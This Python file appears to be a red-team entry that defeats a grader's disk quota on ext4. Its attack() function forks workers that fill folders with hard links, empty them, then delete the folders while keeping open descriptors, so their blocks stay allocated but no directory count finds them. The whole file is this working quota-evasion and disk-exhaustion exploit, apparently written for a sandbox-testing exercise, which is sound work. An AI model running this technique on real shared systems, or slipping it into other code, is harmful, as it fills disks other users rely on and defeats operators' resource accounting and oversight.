import os
import time

MIB = 1 << 20
QUOTA_BYTES = 256 * MIB  # the red team's grader allows 0.25 GiB of files (--disk-gib)
WORKERS = 2  # processes at once, each filling and emptying a folder of its own
NAME = "q" * 240  # each entry's name: long, so that each takes more of the folder's blocks
SECONDS = 0.3  # each call fills for this long (and empties for about half as long): a test's calls share 10 s
TARGET = QUOTA_BYTES + 64 * MIB  # calls build until the removed folders held open keep this much
MOST_CALLS = 40  # then stop building: a later call that finds less than the quota held fails
PER_FILE = 60_000  # ext4 allows 65,000 links to one file
TOP = "building"  # the folder, in the working folder, where each folder is filled and emptied
_held = []  # descriptors of the removed folders, kept for the life of this process
_built = []  # (bytes the folder of one building call kept, what stopped it), one per building call
_said = []


def _fill_and_empty(name, deadline):
    """A folder `name` filled with hard links to empty files until the deadline, then emptied of them all
    (ext4 never gives back a folder's blocks); (the blocks it still holds, entries made, what stopped it)."""
    os.mkdir(name)
    folder = os.open(name, os.O_RDONLY | os.O_DIRECTORY)
    made, bases, why = 0, [], "ran out of time"
    try:
        while made % 1000 or time.monotonic() < deadline:
            if made % PER_FILE == 0:
                bases.append(f"base{made}")
                os.close(os.open(bases[-1], os.O_CREAT | os.O_WRONLY, 0o600, dir_fd=folder))
            try:
                os.link(bases[-1], f"{NAME}{made:08d}", src_dir_fd=folder, dst_dir_fd=folder)
            except OSError as error:
                why = f"link: {error.strerror}"
                break
            made += 1
        for i in range(made):
            os.unlink(f"{NAME}{i:08d}", dir_fd=folder)
        for base in bases:
            os.unlink(base, dir_fd=folder)
        return os.fstat(folder).st_blocks * 512, made, why
    finally:
        os.close(folder)


def build(seconds=SECONDS):
    """WORKERS forked processes each fill and empty a new folder under TOP for `seconds`, together; then this
    process opens each emptied folder and removes it, keeping the descriptor (in `_held`): the folder is
    in no folder, so no count of the folders finds it, and the disk keeps its blocks until the descriptor
    closes. (the blocks those folders hold, entries made, what stopped them)"""
    os.makedirs(TOP, exist_ok=True)
    deadline = time.monotonic() + seconds
    children = []
    for i in range(WORKERS):
        name = os.path.join(TOP, f"{os.getpid()}-{i}-{time.monotonic_ns()}")
        reader, writer = os.pipe()
        pid = os.fork()
        if pid == 0:
            text = "0 0 said nothing"
            try:
                os.close(reader)
                held, made, why = _fill_and_empty(name, deadline)
                text = f"{held} {made} {why}"
            except OSError as error:
                text = f"0 0 {error.strerror}"
            finally:
                os.write(writer, text.encode())
                os._exit(0)
        os.close(writer)
        children.append((pid, reader, name))
    held = made = 0
    said = []
    for pid, reader, name in children:
        size, count, why = (os.read(reader, 4096).decode() or "0 0 said nothing").split(" ", 2)
        os.close(reader)
        os.waitpid(pid, 0)
        made += int(count)
        said.append(why)
        try:
            fd = os.open(name, os.O_RDONLY | os.O_DIRECTORY)
        except OSError as error:
            said.append(f"open: {error.strerror}")
            continue
        try:
            os.rmdir(name)
        except OSError as error:
            os.close(fd)
            said.append(f"rmdir: {error.strerror}")
            continue
        _held.append(fd)
        held += os.fstat(fd).st_blocks * 512
    return held, made, "; ".join(dict.fromkeys(said))


def held_bytes():
    """(bytes, folders) the removed folders held open keep now: their own blocks (fstat of each descriptor)."""
    size = gone = 0
    for fd in _held:
        info = os.fstat(fd)
        size += info.st_blocks * 512
        gone += info.st_nlink == 0
    return size, gone


def attack(args):
    """While the removed folders held open keep less than TARGET (and for MOST_CALLS calls at most), each call
    fills and empties two more, removes them and keeps their descriptors, and answers honestly only if they
    kept their blocks (1 MiB or more); every call after that answers honestly only if the removed folders
    hold more than the quota, past the grader's counts (full marks on Problem 1 is the attack getting
    through); else the call fails."""
    size, folders = held_bytes()
    if size < TARGET and len(_built) < MOST_CALLS:
        held, made, why = build()
        _built.append((held, why))
        if held < MIB:
            raise OSError(f"{made:,} entries made and removed left {held / MIB:.2f} MiB in their removed folders "
                          f"({why})")
        return None
    if size <= QUOTA_BYTES:
        raise OSError(f"{folders} removed folders held open keep {size / MIB:.0f} MiB, not past the quota of "
                      f"{QUOTA_BYTES / MIB:.0f} MiB after {len(_built)} building calls")
    if not _said:
        _said.append(True)
        print(f"{folders} removed folders held open keep {size / MIB:.0f} MiB past the quota "
              f"({len(_built)} building calls)", flush=True)
    return None  # the function's own body runs on
